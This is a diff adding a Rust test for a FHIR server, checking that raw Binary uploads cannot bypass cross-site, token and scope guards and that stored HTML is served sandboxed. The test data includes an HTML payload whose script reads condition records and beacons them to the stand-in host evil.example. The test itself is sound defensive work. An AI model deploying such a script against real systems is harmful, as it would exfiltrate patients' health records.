@@ -486,3 +486,41 @@ fn every_route_needs_a_token() {
         assert_eq!(r.status, 401, "{method} {path}: {}", r.body);
     }
 }
+
+/// 10. Raw Binary content (issue 14, item 11): only `POST /Binary` takes a body that is not
+/// FHIR JSON, and it is still refused cross-site (auth off) and without a token (auth on);
+/// what it stored is served back sandboxed, so an uploaded HTML page never runs as this
+/// server's page.
+#[test]
+fn raw_binaries_are_not_a_way_around_the_guards() {
+    let s = open();
+    let page = b"<html><script>fetch('/fhir/Condition').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.example', t))</script></html>";
+    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "text/html"), ("Origin", "http://evil.example")], page);
+    assert_eq!(r.status, 403, "cross-site: {}", r.body);
+    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "text/html"), ("Sec-Fetch-Site", "cross-site")], page);
+    assert_eq!(r.status, 403, "cross-site: {}", r.body);
+    let r = request(&s.addr, "POST", "/fhir/DocumentReference", &[("Content-Type", "text/plain")], b"{}");
+    assert_eq!(r.status, 415, "only Binary takes raw bodies: {}", r.body);
+    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "not a type")], b"x");
+    assert_eq!(r.status, 415, "{}", r.body);
+
+    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "text/html")], page);
+    assert_eq!(r.status, 201, "{}", r.body);
+    let id = r.json()["id"].as_str().unwrap().to_owned();
+    let raw = request(&s.addr, "GET", &format!("/fhir/Binary/{id}"), &[("Accept", "text/html")], b"");
+    assert_eq!(raw.status, 200);
+    assert_eq!(raw.body.as_bytes(), page);
+    assert_eq!(raw.header("x-content-type-options"), Some("nosniff"));
+    assert!(raw.header("content-security-policy").unwrap().starts_with("sandbox"), "{:?}", raw.headers);
+
+    let g = guarded();
+    let r = request(&g.addr, "POST", "/fhir/Binary", &[("Content-Type", "application/pdf")], b"%PDF-1.4");
+    assert_eq!(r.status, 401, "{}", r.body);
+    let r = call("POST", "/fhir/Binary", &token("ehr", "system/Binary.r"), &[("Content-Type", "application/pdf")], b"%PDF-1.4");
+    assert_eq!(r.status, 403, "reading is not creating: {}", r.body);
+    let r = call("POST", "/fhir/Binary", &token("ehr", "system/Binary.c"), &[("Content-Type", "application/pdf")], b"%PDF-1.4");
+    assert_eq!(r.status, 201, "{}", r.body);
+    let id = r.json()["id"].as_str().unwrap().to_owned();
+    let r = request(&g.addr, "GET", &format!("/fhir/Binary/{id}"), &[("Accept", "application/pdf")], b"");
+    assert_eq!(r.status, 401, "raw reads need a token too");
+}
